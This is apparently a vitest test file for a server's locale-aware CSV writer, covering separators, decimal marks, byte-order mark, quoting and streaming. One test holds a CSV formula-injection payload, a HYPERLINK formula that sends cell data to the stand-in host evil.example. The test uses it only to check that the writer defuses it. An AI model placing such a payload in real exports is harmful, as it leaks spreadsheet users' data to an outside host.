import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvCents, csvDecimal, csvRecord, CSV_BOM, FORMULA_TRIGGERS, type CsvCell } from '@portal/schema/csv-format';
import { LOCALE_IDS, type LocaleId } from '@portal/schema/locale-ids';
import { streamCsv, writeCsv } from './csv-writer.ts';

const SEMICOLON_LOCALES: LocaleId[] = ['et-EE', 'fi-FI', 'lv-LV', 'ru-RU', 'sv-FI'];
const ROW: CsvCell[] = [
  'Perusmaksu; kuukausi',
  'sanoi "hei"',
  'kaksi\r\nriviä',
  -12,
  csvDecimal('-1234.56789'),
  csvCents(-5),
  null,
  'Jānis Ozoliņš',
];

/** Issues 25 and 26: one writer, formula-guarded, as the locale's spreadsheets expect. */
describe('the server’s CSV writer', () => {
  it.each(LOCALE_IDS)('%s: the separator and decimal mark of the locale, a byte-order mark, CRLF, RFC 4180 quoting', (locale) => {
    const csv = writeCsv(['Nimi', 'Määrä'], [ROW], locale);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    const header = csv.slice(1).split('\r\n')[0];
    expect(csv.endsWith('Jānis Ozoliņš\r\n')).toBe(true);
    if (SEMICOLON_LOCALES.includes(locale)) {
      expect(header).toBe('Nimi;Määrä');
      expect(csv.slice(1)).toContain('"Perusmaksu; kuukausi";"sanoi ""hei""";"kaksi\r\nriviä";-12;-1234,56789;-0,05;;Jānis Ozoliņš');
    } else {
      expect(header).toBe('Nimi,Määrä');
      expect(csv.slice(1)).toContain('Perusmaksu; kuukausi,"sanoi ""hei""","kaksi\r\nriviä",-12,-1234.56789,-0.05,,Jānis Ozoliņš');
    }
  });

  it.each(LOCALE_IDS.flatMap((locale) => FORMULA_TRIGGERS.map((trigger) => [locale, trigger] as const)))(
    '%s: a text cell starting with %j is written as text, a number stays a number',
    (locale, trigger) => {
      const dangerous = `${trigger}HYPERLINK("https://evil.example/?"&A1)`;
      const csv = writeCsv(['a', 'b'], [[dangerous, -3]], locale);
      const { delimiter, decimal } = SEMICOLON_LOCALES.includes(locale)
        ? { delimiter: ';', decimal: ',' }
        : { delimiter: ',', decimal: '.' };
      const guarded = `'${dangerous}`;
      const quoted = /[;,"\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
      expect(csv).toContain(`\r\n${quoted}${delimiter}-3\r\n`);
      expect(writeCsv(['a'], [[csvDecimal('-3.5')]], locale)).toContain(`\r\n-3${decimal}5\r\n`);
    },
  );

  it('writes exactly what the web’s writer writes for the same rows (the shared rules of @portal/schema/csv-format)', () => {
    for (const locale of LOCALE_IDS) {
      const rows = [ROW, FORMULA_TRIGGERS.map((trigger) => `${trigger}1+1`)];
      expect(writeCsv(['x', 'y'], rows, locale)).toBe(`${CSV_BOM}${[['x', 'y'], ...rows].map((row) => csvRecord(row, locale)).join('')}`);
    }
  });

  it('streams the same file, row by row', async () => {
    async function* rows() {
      yield ROW;
      yield ['=1+1', 2.5];
    }
    // As bytes: a TextDecoder would drop the byte-order mark.
    expect((await buffer(streamCsv(['Nimi', 'Määrä'], rows(), 'fi-FI'))).toString('utf8')).toBe(
      writeCsv(['Nimi', 'Määrä'], [ROW, ['=1+1', 2.5]], 'fi-FI'),
    );
  });
});
